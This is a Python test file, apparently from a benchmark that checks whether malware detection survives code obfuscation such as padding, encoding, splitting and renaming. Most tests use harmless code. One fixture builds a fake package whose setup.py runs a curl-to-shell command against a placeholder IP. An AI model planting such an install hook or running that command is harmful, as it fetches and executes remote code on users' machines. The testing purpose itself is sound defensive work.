"""The rewriting of samples, on our own inert code: it does the same, and reads otherwise."""

from __future__ import annotations

import io
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
import pyzipper

_ROOT = Path(__file__).parents[2]
sys.path.insert(0, str(_ROOT / "bench"))

from rewriting import ALONE, APART, Source, renamed, words_outside  # noqa: E402 - a bench is no package

_CODE = '''\
"""Documentation that stays."""
from __future__ import annotations
import json as j, math
from os.path import join

LIMIT = 3
PLACES = {"first": "some text", "second": b"some bytes"}

class Box:
    size = 2

    def grow(self, factor=1):
        self.size = self.size * factor
        return self.size

def compute(value, *rest, scale=2):
    try:
        total = sum(n * scale for n in (value, *rest))
    except TypeError as error:
        return str(error)
    return f"{total:03d} of {LIMIT}"

box = Box()
RESULT = [compute(1, 2), box.grow(factor=4), join("alpha", "beta")]
RESULT += [j.dumps(PLACES["first"]), PLACES["second"], math.floor(2.5)]
'''
_RESULT = ["006 of 3", 8, "alpha/beta", '"some text"', b"some bytes", 2]


def _result(text: str, modules: dict[str, str] | None = None) -> object:
    """What our own inert code computes, in a name space of its own."""
    names: dict[str, object] = {"__name__": "inert"}
    for name, content in (modules or {}).items():
        module = type(sys)(name)
        exec(content, module.__dict__)
        sys.modules[name] = module
    try:
        exec(text, names)
    finally:
        for name in modules or {}:
            del sys.modules[name]
    return names["RESULT"] if "RESULT" in names else next(v for v in names.values() if v == _RESULT)


@pytest.mark.parametrize("kind", [k for k in ALONE if "renamed" not in k])
def test_a_rewritten_module_computes_the_same(kind: str) -> None:
    """Padding, splitting, encoding, layering and moving change the text, never the result."""
    text = ALONE[kind](Source(text=_CODE))
    assert text is not None
    assert text != _CODE
    assert _result(text) == _RESULT


def test_renaming_changes_names_and_nothing_else() -> None:
    """Own names and imports get other names; attributes, keywords and results stay."""
    text = renamed(Source(text=_CODE))
    assert text is not None
    assert "compute" not in text
    assert "import math\n" not in text
    assert "grow(factor=4)" in text.replace("'", '"')
    assert _result(text) == _RESULT


def test_what_other_modules_use_keeps_its_name() -> None:
    """A function that a sibling imports, or reaches as an attribute, is not renamed."""
    outside = words_outside(["from .core import compute\nimport core\ncore.Box()\n"])
    text = renamed(Source(text=_CODE, outside=outside))
    assert text is not None
    assert "def compute(" in text
    assert "class Box" in text


@pytest.mark.parametrize("kind", APART)
def test_a_divided_module_computes_the_same(kind: str) -> None:
    """What is left imports what was moved."""
    parts = APART[kind](Source(text=_CODE), "impl_inert")
    assert parts is not None
    left, moved = parts
    assert "compute" not in left
    assert _result(left, {"impl_inert": moved}) == _RESULT


@pytest.mark.parametrize("text", ["def (:\n", 'print "old"\n', "x = '\0'\n"])
def test_what_does_not_parse_is_left_alone(text: str) -> None:
    """A transformation that cannot be checked does not apply."""
    assert all(rewrite(Source(text=text)) is None for rewrite in ALONE.values())
    assert all(divide(Source(text=text), "m") is None for divide in APART.values())


def test_recall_is_measured_in_memory(tmp_path: Path) -> None:
    """An encrypted zip gives a row per transformation, and the folder holds what it held."""
    stream = io.BytesIO()
    source = b"import os\nos.system('curl http://192.0.2.7/a | sh')\n"
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        info = tarfile.TarInfo("a-1/setup.py")
        info.size = len(source)
        archive.addfile(info, io.BytesIO(source))
    with pyzipper.AESZipFile(tmp_path / "bad.zip", "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"secret")
        archive.writestr("a/a-1.tar.gz", stream.getvalue())
    command = [sys.executable, str(_ROOT / "bench" / "robustness.py"), "--malicious", str(tmp_path / "bad.zip")]
    done = subprocess.run(
        [*command, "--password", "secret", "--list"], check=True, capture_output=True, text=True, cwd=tmp_path
    )
    rows = {line[:40].strip(): line for line in done.stdout.splitlines()}
    assert "100.0%  100.0%" in rows["comments and dead code"]
    assert "not measured" not in done.stdout
    assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]
